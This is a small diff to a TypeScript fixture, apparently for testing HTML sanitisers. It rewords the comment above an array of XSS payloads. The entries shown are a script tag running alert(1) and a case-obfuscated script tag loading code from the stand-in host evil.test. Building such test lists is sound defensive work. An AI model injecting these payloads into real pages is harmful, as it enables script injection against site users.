@@ -1,4 +1,4 @@
-/** Markup of the kinds by which filters of markup have been passed: each would run `alert(1)` or load from evil.test where it stands. */
+/** Known attacks on HTML sanitisers: unsanitised, each would run `alert(1)` or load from evil.test. */
 export const hostileMarkup: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.test/x.js></sCrIpT>',
